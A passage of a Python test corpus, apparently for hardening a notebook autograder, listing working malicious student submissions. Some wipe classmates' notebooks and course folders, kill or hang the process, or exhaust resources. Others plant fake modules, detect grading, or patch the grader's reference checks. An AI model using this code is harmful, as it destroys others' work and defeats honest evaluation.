    Attack("truncate_classmates_notebooks", {"forward_prop": _cell(_ANCESTORS, r"""
        import glob

        import numpy as np


        def _spoil_classmates():
            # Empty (or make unreadable) every other student's submitted and graded notebook.
            try:
                me = os.path.abspath(os.getcwd())
            except OSError:
                return
            targets = []
            if os.path.basename(os.path.abspath(os.path.join("..", ".."))) == "autograded":
                targets += glob.glob(os.path.join("..", "..", "*", "*", "*.ipynb"))
            if os.path.isfile(os.path.join("..", "..", "..", "gradebook.db")):
                targets += glob.glob(os.path.join("..", "..", "..", "submitted", "*", "*", "*.ipynb"))
            root = _course_root()
            if root is not None:
                for step in ("submitted", "autograded"):
                    targets += glob.glob(os.path.join(root, step, "*", "*", "*.ipynb"))
            for number, path in enumerate(sorted({os.path.abspath(t) for t in targets})):
                if os.path.dirname(path) == me:
                    continue
                try:
                    with open(path, "w") as handle:
                        handle.write("" if number % 2 else '{"cells": []}')
                except OSError:
                    pass


        _spoil_classmates()


        def forward_prop(x, f, Ws, bs):
            _spoil_classmates()  # and again for the ones submitted since
            hs, zs = [x], [np.zeros_like(x, dtype=float)]
            for W in Ws:
                z = W @ hs[-1]  # no bias
                zs.append(z)
                hs.append(f(z)[0])
            return hs, zs
        """)}, wrong=("forward_prop",),
        why="Truncates every other student's notebook under ../../../submitted and ../.. (and the "
            "course root found walking up), on every call, around a forward_prop without bias."),
    Attack("wreck_course_folders", {"backward_prop": _cell(_ANCESTORS, r"""
        import glob
        import shutil

        import numpy as np


        def _wreck_course():
            root = _course_root()
            if root is None:
                return
            shutil.rmtree(os.path.join(root, "source"), ignore_errors=True)
            for path in glob.glob(os.path.join(root, "release", "*", "*.ipynb")):
                try:
                    with open(path, "w") as handle:
                        handle.write("this assignment was cancelled\n")
                except OSError:
                    pass
            try:
                with open(os.path.join(root, "release", "JUNK.txt"), "w") as handle:
                    handle.write("junk " * 200000)
            except OSError:
                pass
            try:  # and let every submitted file through in the next nbgrader run
                with open(os.path.join(root, "nbgrader_config.py"), "a") as handle:
                    handle.write("\nc.CourseDirectory.ignore = []\n")
            except OSError:
                pass


        _wreck_course()


        def backward_prop(loss, f, Ws, bs, zs, y):
            L = len(Ws)
            _, dldyhat = loss(f(zs[L])[0], y)
            dldhs = [None] * (L + 1)
            dldhs[L] = dldyhat
            for l in reversed(range(L)):
                dldhs[l] = Ws[l].T @ dldhs[l + 1]  # forgot f'(z)
            return dldhs
        """)}, wrong=("backward_prop",),
        why="Deletes the course's source/ folder, writes junk into release/ and appends "
            "`c.CourseDirectory.ignore = []` to nbgrader_config.py, around a backward_prop without f'."),
)


# --------------------------------------------------------------------------------------------
# Leaving or crashing the process inside one function
# --------------------------------------------------------------------------------------------

EXITS = (
    Attack("exit_os_exit", {"sigmoid": _code(r"""
        import os

        import numpy as np


        def sigmoid(z):
            with np.errstate(over="ignore"):
                h = 1.0 / (1.0 + np.exp(-z))
            os._exit(0)  # leave quietly, with a success status, before answering
            return h, h * (1.0 - h)
        """)}, wrong=("sigmoid",),
        why="Calls os._exit(0) inside sigmoid, killing the process with a success status."),
    Attack("exit_sys_exit", {"loss": _code(r"""
        import sys


        def loss(yhat, y):
            diff = yhat - y
            sys.exit(0)
            return 0.5 * diff ** 2, diff
        """)}, wrong=("loss",),
        why="Calls sys.exit(0) inside loss, raising SystemExit through the grader."),
    Attack("exit_raise_systemexit", {"forward_prop": _code(r"""
        def forward_prop(x, f, Ws, bs):
            raise SystemExit("forward_prop: nothing to see here")
        """)}, wrong=("forward_prop",),
        why="Raises SystemExit directly inside forward_prop."),
    Attack("crash_sigsegv", {"backward_prop": _code(r"""
        import os
        import signal


        def backward_prop(loss, f, Ws, bs, zs, y):
            os.kill(os.getpid(), signal.SIGSEGV)
            return [None] * (len(Ws) + 1)
        """)}, wrong=("backward_prop",),
        why="Sends SIGSEGV to its own process inside backward_prop."),
    Attack("crash_ctypes_null_read", {"compute_gradients": _code(r"""
        import ctypes


        def compute_gradients(dldhs, f, zs, hs):
            ctypes.string_at(0)  # reads address 0: a real segmentation fault
            return [], []
        """)}, wrong=("compute_gradients",),
        why="Reads a null pointer with ctypes.string_at(0) inside compute_gradients."),
    Attack("crash_os_abort", {"loss": _code(r"""
        import os


        def loss(yhat, y):
            os.abort()
        """)}, wrong=("loss",),
        why="Calls os.abort() inside loss, killing the process with SIGABRT."),
)


# --------------------------------------------------------------------------------------------
# Never returning (these alone may run until something stops them)
# --------------------------------------------------------------------------------------------

ENDLESS = (
    Attack("loop_plain", {"forward_prop": _code(r"""
        def forward_prop(x, f, Ws, bs):
            while True:
                pass
        """)}, wrong=("forward_prop",),
        why="Loops forever in forward_prop with `while True: pass`."),
    Attack("loop_swallows_interrupts", {"backward_prop": _code(r"""
        def backward_prop(loss, f, Ws, bs, zs, y):
            while True:
                try:
                    while True:
                        pass
                except BaseException:  # KeyboardInterrupt, time limits, SystemExit: keep going
                    pass
        """)}, wrong=("backward_prop",),
        why="Loops forever in backward_prop and catches every BaseException an interrupt or a "
            "time limit raises."),
    Attack("loop_ignores_signals", {"compute_gradients": _code(r"""
        import signal

        _IGNORED = ("SIGALRM", "SIGINT", "SIGTERM", "SIGVTALRM", "SIGPROF", "SIGXCPU", "SIGHUP")


        def _deaf():
            for name in _IGNORED:
                try:
                    signal.signal(getattr(signal, name), signal.SIG_IGN)
                except (AttributeError, OSError, ValueError):
                    pass
            for timer in ("ITIMER_REAL", "ITIMER_VIRTUAL", "ITIMER_PROF"):
                try:
                    signal.setitimer(getattr(signal, timer), 0)
                except (AttributeError, OSError, ValueError):
                    pass
            try:
                signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM, signal.SIGINT, signal.SIGTERM})
            except (AttributeError, OSError, ValueError):
                pass


        _deaf()


        def compute_gradients(dldhs, f, zs, hs):
            _deaf()  # again: a time limit may have installed its own handler since
            while True:
                try:
                    while True:
                        pass
                except BaseException:
                    pass
        """)}, wrong=("compute_gradients",),
        why="Ignores SIGALRM, SIGINT, SIGTERM and SIGXCPU and cancels interval timers at module level "
            "and per call, then loops forever in compute_gradients."),
    Attack("sleep_forever", {"loss": _code(r"""
        import time


        def loss(yhat, y):
            time.sleep(10 ** 6)
            diff = yhat - y
            return 0.5 * diff ** 2, diff
        """)}, wrong=("loss",),
        why="Sleeps for 10**6 seconds inside loss."),
)


# --------------------------------------------------------------------------------------------
# Memory
# --------------------------------------------------------------------------------------------

MEMORY = (
    Attack("memory_huge_ones", {"sigmoid": _code(r"""
        import numpy as np


        def sigmoid(z):
            table = np.ones(10 ** 11)  # a lookup table "to make it fast": 800 GB
            h = 1.0 / (1.0 + np.exp(-z))
            return h * table[0], h * (1.0 - h)
        """)}, wrong=("sigmoid",),
        why="Allocates np.ones(10**11), 800 GB, inside sigmoid."),
    Attack("memory_growing_bytes", {"backward_prop": _code(r"""
        import time

        import numpy as np


        def backward_prop(loss, f, Ws, bs, zs, y):
            hoard = []
            stop = time.monotonic() + 2.5
            while len(hoard) < 30 and time.monotonic() < stop:  # 3 GB, or a MemoryError first
                hoard.append(b"\xff" * (100 * 2 ** 20))
            return [np.zeros((W.shape[1], 1)) for W in Ws] + [loss(f(zs[-1])[0], y)[1]]
        """)}, wrong=("backward_prop",),
        why="Grows a list of 100 MB byte strings inside backward_prop until memory runs out "
            "(at most 30 of them in 2.5 s), then returns zeros."),
)


# --------------------------------------------------------------------------------------------
# Output floods
# --------------------------------------------------------------------------------------------

FLOODS = (
    Attack("flood_stdout_correct", {"loss": _cell(r"""
        import time

        _LINE = "all work and no play makes a dull grader " * 25000  # ~1 MB
        _left = {"lines": 264, "seconds": 2.0}


        def _shout(lines, seconds):
            start = time.monotonic()
            stop = start + min(seconds, _left["seconds"])
            for _ in range(min(lines, _left["lines"])):
                if time.monotonic() >= stop:
                    break
                print(_LINE)
                _left["lines"] -= 1
            _left["seconds"] -= time.monotonic() - start


        _shout(200, 1.5)  # ~200 MB while the cell runs
        """, _LOSS_OK.replace("    diff = yhat - y", "    _shout(4, 0.1)  # and a few MB more per call\n"
                                                    "    diff = yhat - y"))},
        wrong=(),
        why="Prints ~200 MB to stdout when the cell runs and a few MB on each call of an otherwise "
            "correct loss (at most 2 s of printing in all)."),
    Attack("flood_stderr_and_fds_correct", {"sigmoid": _cell(r"""
        import os
        import sys
        import time

        _CHUNK = "y" * 65536
        _budget = {"seconds": 2.0, "bytes": 64 * 2 ** 20}


        def _flood(seconds):
            # sys.stderr, then file descriptors 1 and 2 directly, within the overall budget.
            start = time.monotonic()
            stop = start + min(seconds, _budget["seconds"])
            data = _CHUNK.encode()
            while time.monotonic() < stop and _budget["bytes"] > 0:
                try:
                    sys.stderr.write(_CHUNK)
                except (OSError, ValueError):
                    pass
                for fd in (1, 2):
                    try:
                        os.write(fd, data)
                    except OSError:
                        pass
                _budget["bytes"] -= 3 * len(data)
            _budget["seconds"] -= time.monotonic() - start


        _flood(0.5)
        """, _SIGMOID_OK.replace("    with np.errstate", "    _flood(0.25)\n    with np.errstate"))},
        wrong=(),
        why="Writes to sys.stderr and straight to file descriptors 1 and 2 in loops (at most 2 s and "
            "64 MB in all) around an otherwise correct sigmoid."),
    Attack("flood_with_wrong_forward_prop", {"forward_prop": _code(r"""
        import sys
        import time

        import numpy as np

        _LINE = "z" * 2 ** 20
        _left = {"lines": 200, "seconds": 2.0}


        def _debug(*parts):
            if _left["lines"] <= 0 or _left["seconds"] <= 0:
                return
            start = time.monotonic()
            print(*parts, _LINE)
            sys.stderr.write(_LINE + "\n")
            _left["lines"] -= 1
            _left["seconds"] -= time.monotonic() - start


        def forward_prop(x, f, Ws, bs):
            hs, zs = [x], [np.zeros_like(x, dtype=float)]
            for l, (W, b) in enumerate(zip(Ws, bs)):
                z = W @ hs[-1] + b
                _debug("layer", l, z.ravel())
                zs.append(z)
                hs.append(z)  # copy-paste slip: z instead of f(z)
            return hs, zs
        """)}, wrong=("forward_prop",),
        why="Prints and writes to stderr 1 MB per layer (at most 200 MB and 2 s in all) from a "
            "forward_prop that stores z instead of f(z)."),
)


# --------------------------------------------------------------------------------------------
# Processes and threads (all bounded in number and lifetime)
# --------------------------------------------------------------------------------------------

PROCESSES = (
    Attack("fork_sleepers_correct", {"loss": _cell(r"""
        import os
        import time

        _children = {"count": 0}


        def _spawn_sleepers(count):
            # At most 50 children in all; each sleeps 2 s and exits.
            for _ in range(count):
                if _children["count"] >= 50:
                    return
                _children["count"] += 1
                try:
                    pid = os.fork()
                except OSError:
                    return
                if pid == 0:
                    try:
                        time.sleep(2.0)
                    finally:
                        os._exit(0)


        _spawn_sleepers(10)
        """, _LOSS_OK.replace("    diff = yhat - y", "    _spawn_sleepers(5)\n    diff = yhat - y"))},
        wrong=(),
        why="Forks up to 50 children in all (10 when the cell runs, 5 per call), each sleeping 2 s, "
            "around an otherwise correct loss."),
    Attack("fork_twin_answers", {"compute_gradients": _code(r"""
        import os
        import threading

        _twins = {"count": 0}


        def compute_gradients(dldhs, f, zs, hs):
            dWs, dbs = [], []
            for l in range(len(zs) - 1):
                delta = dldhs[l + 1] * f(zs[l + 1])[1]
                dWs.append(delta @ hs[l].T)
                dbs.append(delta)
            pid = -1
            if _twins["count"] < 20:
                _twins["count"] += 1
                try:
                    pid = os.fork()
                except OSError:
                    pid = -1
            if pid == 0:
                # The twin answers right, and vanishes 3 s later whatever it is doing by then.
                threading.Timer(3.0, os._exit, (0,)).start()
                return dWs, dbs
            return [h @ d.T for h, d in zip(hs, dbs)], dbs  # the original answers transposed dWs
        """)}, wrong=("compute_gradients",),
        why="Forks inside compute_gradients (at most 20 times): the child returns the right gradients "
            "into the grader's protocol and exits 3 s later, the original returns transposed dWs."),
    Attack("popen_sleepers_correct", {"sigmoid": _cell(r"""
        import subprocess

        _sleepers = []


        def _start_sleeper():
            # At most 3 `sleep 100` in all, in their own sessions so a process-group kill misses them.
            if len(_sleepers) >= 3:
                return
            try:
                _sleepers.append(subprocess.Popen(["sleep", "100"], start_new_session=True,
                                                  stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                                  stderr=subprocess.DEVNULL))
            except OSError:
                _sleepers.append(None)


        _start_sleeper()
        """, _SIGMOID_OK.replace("    with np.errstate", "    _start_sleeper()\n    with np.errstate"))},
        wrong=(),
        why="Starts subprocess.Popen(['sleep', '100']) in a new session (at most 3 in all) around an "
            "otherwise correct sigmoid."),
    Attack("multiprocessing_children", {"backward_prop": _code(r"""
        import multiprocessing
        import time

        _helpers = []


        def _start_helpers():
            # Up to 8 child processes in all, each sleeping 3 s.
            if len(_helpers) >= 8:
                return
            try:
                context = multiprocessing.get_context("fork")
                for _ in range(4):
                    helper = context.Process(target=time.sleep, args=(3.0,), daemon=True)
                    helper.start()
                    _helpers.append(helper)
            except (OSError, ValueError, AssertionError):
                _helpers.extend([None] * 4)


        def backward_prop(loss, f, Ws, bs, zs, y):
            _start_helpers()
            L = len(Ws)
            _, dldyhat = loss(f(zs[L])[0], y)
            dldhs = [None] * (L + 1)
            dldhs[L] = dldyhat
            for l in reversed(range(L)):
                dldhs[l] = Ws[l].T @ (dldhs[l + 1] * f(zs[l])[1])  # f' of the layer below
            return dldhs
        """)}, wrong=("backward_prop",),
        why="Starts multiprocessing (fork) children sleeping 3 s (at most 8 in all) from a "
            "backward_prop that takes f' at the wrong layer."),
    Attack("spinning_threads_correct", {"forward_prop": _code(r"""
        import threading
        import time

        import numpy as np

        _spinners = []


        def _spin(seconds):
            end = time.monotonic() + seconds
            while time.monotonic() < end:
                pass


        def _keep_spinning():
            # Two busy threads at a time, at most 4 in all, each burning 1.5 s of CPU.
            alive = sum(thread.is_alive() for thread in _spinners)
            while alive < 2 and len(_spinners) < 4:
                thread = threading.Thread(target=_spin, args=(1.5,), daemon=True)
                thread.start()
                _spinners.append(thread)
                alive += 1


        _keep_spinning()


        def forward_prop(x, f, Ws, bs):
            _keep_spinning()
            hs = [x]
            zs = [np.zeros_like(x, dtype=float)]
            for W, b in zip(Ws, bs):
                z = W @ hs[-1] + b
                h, _ = f(z)
                zs.append(z)
                hs.append(h)
            return hs, zs
        """)}, wrong=(),
        why="Keeps two busy-looping threads running (at most 4 threads of 1.5 s in all) around an "
            "otherwise correct forward_prop."),
)


# --------------------------------------------------------------------------------------------
# Using what the grader leaves in memory
# --------------------------------------------------------------------------------------------

_STASH_HEAD = r"""
import numpy as np

_STASH = globals().setdefault("_STASH", {})  # shared by the loss, sigmoid and backward_prop cells
_BUSY = globals().setdefault("_BUSY", set())
"""

GRADER_MEMORY = (
    Attack("stash_reference_collaborators", {
        "loss": _cell(_STASH_HEAD, r"""
        def loss(yhat, y):
            if "loss" in _STASH and "loss" not in _BUSY:
                _BUSY.add("loss")
                try:
                    return _STASH["loss"](yhat, y)  # the grader's own loss, kept by backward_prop
                finally:
                    _BUSY.discard("loss")
            diff = yhat - y
            return diff ** 2, diff  # mine forgets the 0.5
        """),
        "sigmoid": _cell(_STASH_HEAD, r"""
        def sigmoid(z):
            if "sigmoid" in _STASH and "sigmoid" not in _BUSY:
                _BUSY.add("sigmoid")
                try:
                    return _STASH["sigmoid"](z)  # the grader's own sigmoid, kept by backward_prop
                finally:
                    _BUSY.discard("sigmoid")
            h = 1.0 / (1.0 + np.exp(-z))
            return h, h  # mine gets the derivative wrong
        """),
        "backward_prop": _cell(_STASH_HEAD, r"""
        def _is_logistic(f):
            try:
                h, g = f(np.zeros((1, 1)))
                return bool(np.allclose(h, 0.5) and np.allclose(g, 0.25))
            except Exception:
                return False


        def backward_prop(loss, f, Ws, bs, zs, y):
            # Keep the collaborators the grader hands over, for my loss and sigmoid to use later.
            if loss is not globals().get("loss"):
                _STASH["loss"] = loss
            if f is not globals().get("sigmoid") and _is_logistic(f):
                _STASH["sigmoid"] = f
            L = len(Ws)
            yhat, _ = f(zs[L])
            _, dldyhat = loss(yhat, y)
            dldhs = [None] * (L + 1)
            dldhs[L] = dldyhat
            for l in reversed(range(L)):
                _, dhdz = f(zs[l + 1])
                dldhs[l] = Ws[l].T @ (dldhs[l + 1] * dhdz)
            return dldhs
        """)},
        wrong=("sigmoid", "loss"),
        why="A correct backward_prop keeps the reference loss and activation the grader hands it in "
            "globals, and the wrong loss and sigmoid delegate to them once they are there."),
    Attack("corrupt_reference_module", {"sigmoid": _code(r"""
        import gc
        import sys
        import types

        import numpy as np

        _left = {"calls": 5}


        def _half_done(z):
            h = 1.0 / (1.0 + np.exp(-z))
            return h, h


        def _corrupt(name, replacement):
            # Give every other function called `name` my code, so expected values match mine.
            victims = []
            for module in list(sys.modules.values()):
                try:
                    victims.append(getattr(module, name, None))
                except Exception:
                    pass
            victims += [obj for obj in gc.get_objects()
                        if isinstance(obj, types.FunctionType) and obj.__name__ == name]
            for victim in victims:
                if isinstance(victim, types.FunctionType) and victim.__globals__ is not globals():
                    try:
                        victim.__code__ = replacement.__code__
                    except (TypeError, ValueError):
                        pass


        _corrupt("sigmoid", _half_done)


        def sigmoid(z):
            if _left["calls"] > 0:  # again, for references loaded after the cell ran
                _left["calls"] -= 1
                _corrupt("sigmoid", _half_done)
            return _half_done(z)
        """)}, wrong=("sigmoid",),
        why="Finds every other function named sigmoid through sys.modules and gc.get_objects() and "
            "replaces its __code__ with its own wrong sigmoid, so the reference agrees with it."),
    Attack("frame_walk_for_expected", {"loss": _code(r"""
        import inspect
        import sys
        import types

        _inside = [False]


        def _callers():
            try:
                return [info.frame for info in inspect.stack(0)[2:]]
            except Exception:
                frames, frame = [], sys._getframe(2)
                while frame is not None:
                    frames.append(frame)
                    frame = frame.f_back
                return frames


        def _look_around(name):
            # A reference function, or the expected values themselves, in the callers' frames.
            mine = globals().get(name)
            frames = _callers()
            for frame in frames:
                for scope in (frame.f_locals, frame.f_globals):
                    for value in list(scope.values()):
                        try:
                            if isinstance(value, dict):
                                candidate = value.get(name)
                            elif isinstance(value, types.ModuleType):
                                candidate = getattr(value, name, None)
                            else:
                                continue
                        except Exception:
                            continue
                        if (isinstance(candidate, types.FunctionType) and candidate is not mine
                                and candidate.__globals__ is not globals()):
                            return candidate
            for frame in frames:
                local = frame.f_locals
                if "l_ref" in local and "g_ref" in local:  # computed just before I am called
                    expected = (local["l_ref"], local["g_ref"])
                    return lambda yhat, y: expected
            return None


        def loss(yhat, y):
            if not _inside[0]:
                _inside[0] = True
                try:
                    found = _look_around("loss")
                    if found is not None:
                        return found(yhat, y)
                finally:
                    _inside[0] = False
            diff = yhat - y
            return 0.5 * diff ** 2, 2 * diff  # my derivative is off by a factor 2
        """)}, wrong=("loss",),
        why="Walks up the call stack with inspect.stack() and sys._getframe() for a reference loss "
            "or the expected values in the grader's frames, else returns a derivative twice too large."),
    Attack("gc_scan_for_reference", {"compute_gradients": _code(r"""
        import gc
        import types

        _found = []
        _scans = {"left": 3}
        _inside = [False]


        def _reference(name):
            # Another function called `name` anywhere in this process: the grader's, surely.
            if not _found and _scans["left"] > 0:
                _scans["left"] -= 1
                for obj in gc.get_objects():
                    if (isinstance(obj, types.FunctionType) and obj.__name__ == name
                            and obj.__globals__ is not globals()):
                        _found.append(obj)
                        break
            return _found[0] if _found else None


        def compute_gradients(dldhs, f, zs, hs):
            reference = None if _inside[0] else _reference("compute_gradients")
            if reference is not None:
                _inside[0] = True
                try:
                    return reference(dldhs, f, zs, hs)
                finally:
                    _inside[0] = False
            dWs, dbs = [], []
            for l in range(len(zs) - 1):
                delta = dldhs[l + 1] * f(zs[l + 1])[1]
                dWs.append(delta @ hs[l].T)
                dbs.append(delta.ravel())  # flat instead of a column
            return dWs, dbs
        """)}, wrong=("compute_gradients",),
        why="Searches gc.get_objects() for another function named compute_gradients and delegates "
            "to it, else returns flat dbs."),
    Attack("detect_grading", {"sigmoid": _code(r"""
        import os
        import tempfile

        import numpy as np


        def _being_graded():
            if os.environ.get("NBGRADER_EXECUTION"):
                return True
            try:
                get_ipython  # noqa: F821 (there in a notebook)
            except NameError:
                return True  # no notebook around: some grading script
            try:
                folder = os.path.abspath(os.getcwd())
                return ("autograded" in folder.split(os.sep) or not os.listdir(folder)
                        or folder.startswith(tempfile.gettempdir()))
            except OSError:
                return True


        def sigmoid(z):
            with np.errstate(over="ignore"):
                h = 1.0 / (1.0 + np.exp(-z))
            if _being_graded():
                return h, h  # what the grader gets
            return h, h * (1.0 - h)  # what I see when I run the notebook myself
        """)}, wrong=("sigmoid",),
        why="Detects grading (NBGRADER_EXECUTION, no get_ipython, an autograded, empty or temporary "
            "folder) and only then returns a wrong derivative."),
)


# --------------------------------------------------------------------------------------------
# Poisoning what runs later
# --------------------------------------------------------------------------------------------

_POISONS = {"numpy.py": _NUMPY_POISON, "math.py": _MATH_POISON, "autograder.py": _AUTOGRADER_POISON}

POISONING = (
    Attack("poison_later_submissions", {"backward_prop": _cell(r"""
        import glob
        import importlib
        import os
        import sys
        import tempfile

        import numpy as np

        _POISON = @POISON@


        def _plant(folder):
            for name, text in _POISON.items():
                try:
                    with open(os.path.join(folder, name), "w") as handle:
                        handle.write(text)
                except OSError:
                    pass


        def _poison_later_submissions():
            folders = [".", tempfile.gettempdir()]
            autograded = os.path.join("..", "..")
            if os.path.basename(os.path.abspath(autograded)) == "autograded":
                folders.append(autograded)  # beside every student's folder
                folders += glob.glob(os.path.join(autograded, "*", "*"))  # and inside each
            for folder in folders:
                if os.path.isdir(folder):
                    _plant(folder)
            if tempfile.gettempdir() not in sys.path:
                sys.path.insert(0, tempfile.gettempdir())
            for name in list(sys.modules):  # forget the real grader, so it is imported again
                if name == "autograder" or name.startswith("autograder."):
                    del sys.modules[name]
            importlib.invalidate_caches()


        _poison_later_submissions()


        def backward_prop(loss, f, Ws, bs, zs, y):
            L = len(Ws)
            _, dldyhat = loss(f(zs[L])[0], y)
            dldhs = [None] * (L + 1)
            dldhs[L] = dldyhat
            for l in reversed(range(L)):
                dldhs[l] = Ws[l].T @ (dldhs[l + 1] * f(zs[l + 1])[1])
            return dldhs[::-1]  # handed back upside down
        """.replace("@POISON@", repr(_POISONS)))}, wrong=("backward_prop",),
        why="Writes numpy.py, math.py and autograder.py into the current folder, the temp folder and "
            "every student folder under ../.., puts the temp folder first on sys.path and drops the "
            "imported autograder modules, around a backward_prop returned upside down."),
    Attack("shadow_modules_all_stubs", dict(_STUBS), wrong=FUNCTIONS,
           why="Leaves all five functions as NotImplementedError stubs and submits autograder.py, "
               "numpy.py and solutions.py next to the notebook, which would make every check pass "
               "if they were imported.",
           extra_files={"autograder.py": _AUTOGRADER_POISON, "numpy.py": _NUMPY_POISON,
                        "solutions.py": _SOLUTIONS_POISON}),
    Attack("swallow_errors_custom_exc", {"backward_prop": _code(r"""
        import sys
        import traceback


        def _swallow(*args, **kwargs):
            return None  # whatever went wrong, nothing to see


        try:
            get_ipython().set_custom_exc((BaseException,), _swallow)  # noqa: F821
        except NameError:
            pass
        sys.excepthook = _swallow
        traceback.print_exception = _swallow


        def backward_prop(loss, f, Ws, bs, zs, y):
            L = len(Ws)
            _, dldyhat = loss(f(zs[L])[0], y)
            dldhs = [None] * (L + 1)
            dldhs[L] = dldyhat
            for l in reversed(range(L)):
                dldhs[l] = Ws[l] @ (dldhs[l + 1] * f(zs[l + 1])[1])  # W instead of W.T
            return dldhs
        """)}, wrong=("backward_prop",),
        why="Installs an IPython custom exception handler, sys.excepthook and "
            "traceback.print_exception that swallow every error, around a backward_prop using W "
            "instead of W.T."),
)



# --------------------------------------------------------------------------------------------
# Patching the kit code that runs next to the student's code, each with its honest twin
# --------------------------------------------------------------------------------------------

_BACKWARD_WITHOUT_FPRIME = r"""
def backward_prop(loss, f, Ws, bs, zs, y):
    L = len(Ws)
    dldhs = [None] * (L + 1)
    dldhs[L] = loss(f(zs[L])[0], y)[1]
    for l in reversed(range(L)):
        dldhs[l] = Ws[l].T @ dldhs[l + 1]  # f'(z) left out
    return dldhs
"""

_GRADIENTS_DBS_WITHOUT_FPRIME = r"""
def compute_gradients(dldhs, f, zs, hs):
    dWs, dbs = [], []
    for l in range(len(zs) - 1):
        delta = dldhs[l + 1] * f(zs[l + 1])[1]
        dWs.append(delta @ hs[l].T)
        dbs.append(dldhs[l + 1])  # f'(z) left out of the bias gradient
    return dWs, dbs
"""

_LOSS_ZEROES_YHAT = r"""
import numpy as np


def loss(yhat, y):
    diff = yhat - y
    result = 0.5 * diff ** 2, diff
    if isinstance(yhat, np.ndarray):
        yhat[...] = 0.0  # clears the caller's prediction after using it
    return result
"""

_SIGMOID_JAMMER = r"""
import os
import stat
import struct

import numpy as np

_calls = {"n": 0}


def _jam():
    # A forged length prefix, then junk, on every socket this process holds.
    junk = struct.pack("<I", 1000) + b"\x07" * 64
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, junk)
        except OSError:
            pass


def sigmoid(z):
    _calls["n"] += 1
    if _calls["n"] % 3 == 0:
        _jam()
    with np.errstate(over="ignore"):
        h = 1.0 / (1.0 + np.exp(-z))
    return h, h * (1.0 - h)
"""

KIT_PATCHES = (
    Attack("patch_finite_differences", {"backward_prop": _cell(r"""
        import numpy as np


        def _backprop(x, y, Ws, bs, f, loss, forward_prop, backward_prop, compute_gradients):
            hs, zs = forward_prop(x, f, Ws, bs)
            dldhs = backward_prop(loss, f, Ws, bs, zs, y)
            return compute_gradients(dldhs, f, zs, hs)


        def _numeric_is_mine(x, y, Ws, bs, f, loss, forward_prop, eps=1e-6):
            mine = globals()
            return _backprop(x, y, Ws, bs, f, loss, forward_prop, mine["backward_prop"], mine["compute_gradients"])


        def _no_error(*args, **kwargs):
            return [0.0] * len(args[2])


        def _falling(x, y, Ws, bs, eta, epochs, *functions):
            return Ws, bs, [2.0 - k / (epochs + 1.0) for k in range(epochs)]


        _PATCHES = {"finite_difference_gradients": _numeric_is_mine, "gradient_check": _no_error,
                    "layer_errors": lambda a, n: [0.0] * len(a[0]), "train": _falling,
                    "train_losses": lambda *a: _falling(*a)[2]}
        for _module in ("solutions.helpers", "autograder.procedures", "helpers"):
            try:
                _target = __import__(_module, fromlist=["x"])
            except ImportError:
                continue
            for _name, _fake in _PATCHES.items():
                setattr(_target, _name, _fake)
            if hasattr(_target, "PROCEDURES"):
                _target.PROCEDURES.update(_PATCHES)
        """, _BACKWARD_WITHOUT_FPRIME)}, wrong=("backward_prop",),
        why="Leaves f'(z) out of backward_prop and replaces the kit's finite-difference, gradient-check "
            "and training helpers where the student's code runs with ones that agree with it.",
        twin={"backward_prop": _code(_BACKWARD_WITHOUT_FPRIME)}),
    Attack("patch_training_loop", {"compute_gradients": _cell(r"""
        import sys


        def _falling(x, y, Ws, bs, eta, epochs, *functions):
            return Ws, bs, [1.6 - 0.01 * k for k in range(epochs)]


        for _module in list(sys.modules.values()):
            for _name in ("train", "train_losses", "compute_loss"):
                ours = getattr(_module, "__name__", "").startswith(("solutions", "autograder"))
                if ours and hasattr(_module, _name):
                    try:
                        setattr(_module, _name, _falling if _name != "compute_loss" else (lambda *a: 0.0))
                    except (AttributeError, TypeError):
                        pass
        """, _GRADIENTS_DBS_WITHOUT_FPRIME)}, wrong=("compute_gradients",),
        why="Gets the bias gradients wrong and replaces every training helper of the kit's modules "
            "loaded next to it with one that reports a falling loss.",
        twin={"compute_gradients": _code(_GRADIENTS_DBS_WITHOUT_FPRIME)}),
    Attack("patch_mutation_checks", {"loss": _cell(r"""
        import copy
        import sys

        import numpy as np

        _same = lambda *a, **k: True  # noqa: E731
        np.array_equal = _same
        copy.deepcopy = lambda value, memo=None: value
        for _module in list(sys.modules.values()):
            if getattr(_module, "__name__", "").startswith("autograder"):
                for _name in ("_same", "same_bytes", "_same_leaf"):
                    if hasattr(_module, _name):
                        setattr(_module, _name, _same)
        """, _LOSS_ZEROES_YHAT)}, wrong=("loss",),
        why="A loss that clears its caller's prediction after using it, with the kit's comparisons of "
            "arguments before and after the call patched to always say nothing changed.",
        twin={"loss": _code(_LOSS_ZEROES_YHAT)}),
    Attack("jam_the_channel", {"sigmoid": _code(_SIGMOID_JAMMER)}, wrong=(),
        why="A correct sigmoid that, on every third call, writes a forged length prefix and junk onto "
            "every socket it holds.",
        twin={}),
    Attack("fill_the_scratch_space", {"loss": _cell(r"""
        import os
        import tempfile

        _CHUNK = b"\0" * 2 ** 20
        _tried = {"done": False}


        def _fill():
            # Up to 64 MiB into each writable place; every error is swallowed.
            for folder in (tempfile.gettempdir(), "/tmp", "/dev/shm", "/zygote", "."):
                for k in range(64):
                    try:
                        with open(os.path.join(folder, f"fill-{os.getpid()}-{k}"), "wb") as handle:
                            handle.write(_CHUNK)
                    except OSError:
                        break
        """, _LOSS_OK.replace("    diff = yhat - y", "    if not _tried['done']:\n"
                                                    "        _tried['done'] = True\n"
                                                    "        _fill()\n"
                                                    "    diff = yhat - y"))}, wrong=(),
        why="An otherwise correct loss that, on its first call, writes up to 64 MiB into each of the "
            "sandbox's writable places.",
        twin={}),
)


# --------------------------------------------------------------------------------------------
# Privileges and state kept across processes, each with its honest twin: the function is right
# only if the trick works (the process holds a capability, can fork, remount, ptrace the zygote,
# or finds what an earlier process of the same submission left behind)
# --------------------------------------------------------------------------------------------

_PRIVILEGED = r"""
import os

_ABILITY = {}


def _privileged():
    # Any effective capability, or a new process: found out once per process.
    if "answer" not in _ABILITY:
        capable = False
        try:
            # /proc/self/status, read only (the path is joined so that it names no absolute path)
            with open(os.path.join(os.sep, "proc", "self", "status")) as handle:
                for line in handle:
                    if line.startswith("CapEff:"):
                        capable = int(line.split(":", 1)[1], 16) != 0
        except (OSError, ValueError):
            pass
        try:
            pid = os.fork()
        except OSError:
            pid = -1
        if pid == 0:
            os._exit(0)
        if pid > 0:
            os.waitpid(pid, 0)
        _ABILITY["answer"] = capable or pid > 0
    return _ABILITY["answer"]
"""

_LOSS_DOUBLED = r"""
